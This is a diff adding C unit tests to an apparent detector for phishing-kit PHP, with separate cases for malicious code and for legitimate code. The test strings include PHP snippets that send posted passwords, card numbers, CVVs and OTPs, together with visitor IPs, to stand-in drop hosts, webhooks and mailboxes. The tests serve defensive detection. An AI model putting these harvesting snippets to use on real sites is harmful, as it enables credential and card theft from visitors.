@@ -105,6 +105,141 @@ static void test_file_and_messenger_channels(void **state)
 	    HS_SEV_CRITICAL);
 }
 
+/* Webhooks and collectors: an outbound HTTP request that is not a messenger's. */
+static void test_http_channels(void **state)
+{
+	(void)state;
+	/* the credential and the visitor's address in one text, to a fixed host */
+	expect("<?php $ip = $_SERVER['REMOTE_ADDR'];\n"
+	       "$body = json_encode(array('text' => \"u: {$_POST['user']} p: {$_POST['pass']} ip: "
+	       "$ip\"));\n"
+	       "$c = curl_init('https://collect.example-drop.top/h.php');\n"
+	       "curl_setopt($c, CURLOPT_POSTFIELDS, $body); curl_exec($c);",
+	       HS_SEV_CRITICAL);
+	/* the same to a URL from a config file: high */
+	expect("<?php require 'conf.php'; $c = curl_init();\n"
+	       "curl_setopt($c, CURLOPT_URL, $hook);\n"
+	       "curl_setopt($c, CURLOPT_POSTFIELDS, 'data=' . urlencode('OTP ' . "
+	       "$_POST['sms_code'] . ' "
+	       "/ ' . getenv('REMOTE_ADDR')));",
+	       HS_SEV_HIGH);
+	/* curl_setopt_array with the URL and the data in one array */
+	expect(
+	    "<?php $m = 'Card ' . $_POST['cardnumber'] . ' cvv ' . $_POST['cvv'] . ' ' . "
+	    "$_SERVER['HTTP_USER_AGENT'];\n"
+	    "$h = curl_init(); curl_setopt_array($h, array(CURLOPT_URL => 'https://x.example/in', "
+	    "CURLOPT_POST => 1, CURLOPT_POSTFIELDS => array('msg' => $m)));",
+	    HS_SEV_CRITICAL);
+	/* a password in separate fields with the visitor's address to a fixed host */
+	expect(
+	    "<?php $d = array('login' => $_POST['email'], 'password' => $_POST['passwd'], 'ip' => "
+	    "$_SERVER['REMOTE_ADDR']);\n"
+	    "$c = curl_init(); curl_setopt($c, CURLOPT_URL, 'https://webhook.example/abc');\n"
+	    "curl_setopt($c, CURLOPT_POSTFIELDS, http_build_query($d)); curl_exec($c);",
+	    HS_SEV_HIGH);
+	/* a stream context that POSTs */
+	expect(
+	    "<?php $t = \"Pass: \" . $_POST['pwd'] . \"\\nIP: \" . $_SERVER['REMOTE_ADDR'];\n"
+	    "$ctx = stream_context_create(array('http' => array('method' => 'POST', 'content' => "
+	    "http_build_query(array('t' => $t)))));\n"
+	    "file_get_contents('https://drop.example/r.php', false, $ctx);",
+	    HS_SEV_CRITICAL);
+	/* WordPress's HTTP API */
+	expect(
+	    "<?php wp_remote_post($endpoint, array('body' => array('m' => 'pin ' . $_POST['pin'] . "
+	    "' ' . $_SERVER['REMOTE_ADDR'])));",
+	    HS_SEV_HIGH);
+	/* a Discord embed, the fields four arrays down */
+	expect(
+	    "<?php $c = curl_init('https://discord.com/api/webhooks/1/x');\n"
+	    "curl_setopt($c, CURLOPT_POSTFIELDS, json_encode(array('embeds' => "
+	    "array(array('fields' "
+	    "=> array(array('name' => 'Password', 'value' => $_POST['password']), array('name' => "
+	    "'IP', 'value' => $_SERVER['REMOTE_ADDR'])))))));",
+	    HS_SEV_CRITICAL);
+}
+
+/* A mailer object: the recipient, the body, send(). */
+static void test_mailer_objects(void **state)
+{
+	(void)state;
+	expect("<?php $m = new PHPMailer(); $m->addAddress('logs@example.net');\n"
+	       "$m->Body = 'User ' . $_POST['username'] . ' Pass ' . $_POST['pass'] . ' IP ' . "
+	       "$_SERVER['REMOTE_ADDR'];\n$m->send();",
+	       HS_SEV_CRITICAL);
+	expect("<?php include 'cfg.php'; $m = new PHPMailer(); $m->addAddress($drop);\n"
+	       "$m->msgHTML('<b>CVV</b> ' . $_POST['cvv2']); $m->send();",
+	       HS_SEV_MEDIUM);
+	/* the visitor's own address: a welcome mail, not exfiltration */
+	quiet("<?php $m = new PHPMailer(); $m->addAddress($_POST['email']);\n"
+	      "$m->Body = 'Your password is ' . $_POST['password']; $m->send();");
+	/* a contact form through PHPMailer: no credential field */
+	quiet(
+	    "<?php $m = new PHPMailer(); $m->addAddress('office@example.com'); "
+	    "$m->addReplyTo($_POST['email']);\n"
+	    "$m->Body = $_POST['name'] . ': ' . $_POST['message'] . ' ' . $_SERVER['REMOTE_ADDR']; "
+	    "$m->send();");
+}
+
+/* Renamed fields: the message's own labels say what they hold. */
+static void test_labels_name_renamed_fields(void **state)
+{
+	(void)state;
+	expect("<?php $ip = $_SERVER['REMOTE_ADDR'];\n"
+	       "$m = \"Email: \" . $_POST['f1'] . \"\\nPassword : \" . $_POST['f2'] . \"\\nIP: "
+	       "$ip\";\n"
+	       "mail('box@example.net', 'log', $m);",
+	       HS_SEV_CRITICAL);
+	expect("<?php $a = $_POST['x7']; $t = \"CVV: {$a} from {$_SERVER['REMOTE_ADDR']}\";\n"
+	       "file_put_contents('r.txt', $t, FILE_APPEND);",
+	       HS_SEV_HIGH);
+	expect(
+	    "<?php $m = sprintf(\"User: %s\\nCard number: %s\\nIP: %s\", $_POST['a'], $_POST['b'], "
+	    "$_SERVER['REMOTE_ADDR']);\n"
+	    "mail('box@example.net', 'x', $m);",
+	    HS_SEV_CRITICAL);
+	/* a word in the middle of a text is not a label; "code" and "PIN" (a postal code)
+	 * alone are not either */
+	quiet("<?php mail('office@example.com', 'order', 'Forgot your password? Call us. ' . "
+	      "$_POST['f1'] . ' IP ' . $_SERVER['REMOTE_ADDR']);");
+	quiet("<?php $m = \"Name: {$_POST['n']}\\nZip code: {$_POST['z']}\\nPIN: "
+	      "{$_POST['p2']}\\nIP: "
+	      "{$_SERVER['REMOTE_ADDR']}\";\nmail('shop@example.com', 'order', $m);");
+	quiet("<?php $m = sprintf('Name: %s Phone: %s IP: %s', $_POST['a'], $_POST['b'], "
+	      "$_SERVER['REMOTE_ADDR']); mail('x@example.com', 's', $m);");
+}
+
+/* Real sites' requests to outside services that carry a password or a card. */
+static void test_real_http_requests_are_quiet(void **state)
+{
+	(void)state;
+	/* a card and the customer's address and browser in separate fields: a gateway */
+	quiet("<?php $ch = curl_init('https://api.paygate.example/v1/charges');\n"
+	      "curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('number' => "
+	      "$_POST['cardnumber'], 'cvc' => $_POST['cvc'], 'customer_ip' => "
+	      "$_SERVER['REMOTE_ADDR'], "
+	      "'ua' => $_SERVER['HTTP_USER_AGENT']))); curl_exec($ch);");
+	/* OAuth's password grant to the identity provider: no fingerprint */
+	quiet("<?php $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $cfg['idp'] . '/token');\n"
+	      "curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('grant_type' => "
+	      "'password', 'username' => $_POST['username'], 'password' => $_POST['password'])));");
+	/* reCAPTCHA: the visitor's address goes out, no credential with it */
+	quiet("<?php $v = "
+	      "file_get_contents('https://www.google.com/recaptcha/api/siteverify?secret=' "
+	      ". $secret . '&response=' . $_POST['g-recaptcha-response'] . '&remoteip=' . "
+	      "$_SERVER['REMOTE_ADDR']);\n"
+	      "if (password_verify($_POST['password'], $hash)) { header('Location: /'); }");
+	/* single sign-on through a stream context, no fingerprint */
+	quiet("<?php $ctx = stream_context_create(array('http' => array('method' => 'POST', "
+	      "'content' => json_encode(array('user' => $_POST['user'], 'pass' => "
+	      "$_POST['pass'])))));\n"
+	      "$r = file_get_contents($sso_url, false, $ctx);");
+	/* a local service on this machine */
+	quiet("<?php $c = curl_init('http://127.0.0.1:8080/auth');\n"
+	      "curl_setopt($c, CURLOPT_POSTFIELDS, 'p=' . $_POST['pass'] . '&ip=' . "
+	      "$_SERVER['REMOTE_ADDR']);");
+}
+
 /* Real sites' forms that handle passwords, cards and the visitor's address. */
 static void test_real_sites_are_quiet(void **state)
 {
@@ -148,6 +283,10 @@ int main(void)
 	    cmocka_unit_test(test_mail_channel),
 	    cmocka_unit_test(test_file_and_messenger_channels),
 	    cmocka_unit_test(test_real_sites_are_quiet),
+	    cmocka_unit_test(test_http_channels),
+	    cmocka_unit_test(test_mailer_objects),
+	    cmocka_unit_test(test_real_http_requests_are_quiet),
+	    cmocka_unit_test(test_labels_name_renamed_fields),
 	};
 	int rc = cmocka_run_group_tests(tests, NULL, NULL);
 	php_result_free(&res);
